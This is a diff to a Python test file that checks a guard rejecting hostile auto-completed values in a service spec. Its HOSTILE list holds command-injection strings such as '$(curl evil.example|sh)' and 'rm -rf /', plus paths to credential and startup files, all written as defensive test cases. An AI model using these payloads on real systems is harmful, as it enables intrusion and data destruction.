@@ -16,7 +16,7 @@ from pydantic import Field
 
 from clockwork.api.common import FilledField
 from clockwork.api.registry import KINDS, status_model
-from clockwork.api.types import AbsolutePath, FileMode, Guarded
+from clockwork.api.types import AbsolutePath, FileMode, Guarded, Tier
 from clockwork.completion.base import Completion, spec_hash
 from clockwork.completion.guard import GuardPolicy, check
 from clockwork.completion.pipeline import with_defaults
@@ -39,25 +39,27 @@ class Volume(CWModel):
 
 
 class ServiceSpec(CWModel):
-    """Stands for the container-like kinds: every guarded kind of value in one model."""
+    """Stands for the container-like kinds: every guarded kind of value in one model,
+    each completable (tier safe) so that every rule can be reached."""
 
-    name: Annotated[str, Guarded.NAME] | None = None
-    image: Annotated[str, Guarded.IMAGE] | None = None
-    ports: list[Port] | None = None
-    volumes: list[Volume] | None = None
-    privileged: Annotated[bool, Guarded.PRIVILEGED] | None = None
-    data: AbsolutePath | None = None
-    mode: FileMode | None = None
-    content: Annotated[str, Guarded.CONTENT, Field(max_length=10**7)] | None = None
+    name: Annotated[str, Guarded.NAME, Tier.SAFE] | None = None
+    image: Annotated[str, Guarded.IMAGE, Tier.SAFE] | None = None
+    ports: Annotated[list[Port], Tier.SAFE] | None = None
+    volumes: Annotated[list[Volume], Tier.SAFE] | None = None
+    privileged: Annotated[bool, Guarded.PRIVILEGED, Tier.SAFE] | None = None
+    data: Annotated[AbsolutePath, Tier.SAFE] | None = None
+    mode: Annotated[FileMode, Tier.SAFE] | None = None
+    content: Annotated[str, Guarded.CONTENT, Field(max_length=10**7), Tier.SAFE] | None = None
+    owner: str | None = None  # no tier: never a completer's
 
-
-SERVICE_FIELDS = ("name", "image", "ports", "volumes", "privileged", "data", "mode", "content")
 
 HOSTILE: list[tuple[dict[str, Any], str, str]] = [
     ({"data": "/srv/../etc/shadow"}, "data", "normalised-path"),
-    ({"data": "/etc/cron.d/evil"}, "data", "allowed-roots"),
+    ({"data": "/etc/nginx/nginx.conf"}, "data", "allowed-roots"),
+    ({"data": "/etc/cron.d/evil"}, "data", "sensitive-path"),
     ({"data": "/home/pi/.ssh/authorized_keys"}, "data", "sensitive-path"),
-    ({"data": "/root/notes"}, "data", "sensitive-path"),
+    ({"data": "/home/pi/.bashrc"}, "data", "sensitive-path"),
+    ({"data": "/var/lib"}, "data", "root-itself"),
     ({"name": "web; rm -rf /"}, "name", "safe-name"),
     ({"name": "$(curl evil.example|sh)"}, "name", "safe-name"),
     ({"image": "nginx; rm -rf /"}, "image", "image-reference"),
@@ -75,7 +77,7 @@ HOSTILE: list[tuple[dict[str, Any], str, str]] = [
 
 @pytest.mark.parametrize(("values", "field", "rule"), HOSTILE, ids=[h[2] + ":" + h[1] for h in HOSTILE])
 def test_hostile_completion_is_rejected(values: dict[str, Any], field: str, rule: str) -> None:
-    violations = check(ServiceSpec, values, values.keys(), SERVICE_FIELDS, POLICY)
+    violations = check(ServiceSpec, values, values.keys(), POLICY)
     assert [(v.field, v.rule) for v in violations] == [(field, rule)]
     assert str(violations[0]).startswith(f"spec.{field}: ")
     assert f"(rule: {rule})" in str(violations[0])
@@ -85,7 +87,7 @@ def test_hostile_completion_is_rejected(values: dict[str, Any], field: str, rule
 def test_the_same_values_written_by_the_user_are_the_users_decision(
     values: dict[str, Any], field: str, rule: str
 ) -> None:
-    assert check(ServiceSpec, values, proposed=[], completable=SERVICE_FIELDS, policy=POLICY) == []
+    assert check(ServiceSpec, values, proposed=[], policy=POLICY) == []
 
 
 def test_sane_completion_passes() -> None:
@@ -99,20 +101,22 @@ def test_sane_completion_passes() -> None:
         "mode": "0640",
         "content": "hello",
     }
-    assert check(ServiceSpec, values, values.keys(), SERVICE_FIELDS, POLICY) == []
+    assert check(ServiceSpec, values, values.keys(), POLICY) == []
 
 
 def test_policy_widens_roots_and_ports() -> None:
     wide = GuardPolicy(allowed_roots=("/etc/nginx",), allow_privileged_ports=True)
     values = {"data": "/etc/nginx/conf.d/site.conf", "ports": [{"container": 80, "host": 80}]}
-    assert check(ServiceSpec, values, values.keys(), SERVICE_FIELDS, wide) == []
+    assert check(ServiceSpec, values, values.keys(), wide) == []
     assert [v.rule for v in check(ServiceSpec, {"ports": [{"container": 1, "host": 22}]}, ["ports"],
-                                  SERVICE_FIELDS, wide)] == ["ssh-port"]  # fmt: skip
+                                  wide)] == ["ssh-port"]  # fmt: skip
 
 
 def test_fields_outside_the_completable_set_are_refused() -> None:
-    found = check(FILE.spec_model, {"target": {"nodeName": "other"}}, ["target.nodeName"], FILE.completable, POLICY)
+    found = check(FILE.spec_model, {"target": {"nodeName": "other"}}, ["target.nodeName"], POLICY)
     assert [(v.field, v.rule) for v in found] == [("target.nodeName", "not-completable")]
+    found = check(ServiceSpec, {"owner": "root"}, ["owner"], POLICY)
+    assert [(v.field, v.rule) for v in found] == [("owner", "not-completable")]
 
 
 def _reconcile_with(completed: dict[str, Any], filled: dict[str, str]) -> Any:
@@ -146,7 +150,7 @@ def test_reconcile_refuses_to_compile_what_the_guard_rejects() -> None:
     assert result.operations == []
     completed = result.status.condition("Completed")
     assert (completed.status, completed.reason) == ("False", "GuardRejected")
-    assert "spec.path: /etc/shadow touches credentials or accounts (rule: sensitive-path)" in completed.message
+    assert "spec.path: /etc/shadow holds accounts or credentials (rule: sensitive-path)" in completed.message
     assert "spec.mode: 0666 is world-writable (rule: file-mode)" in completed.message
 
 
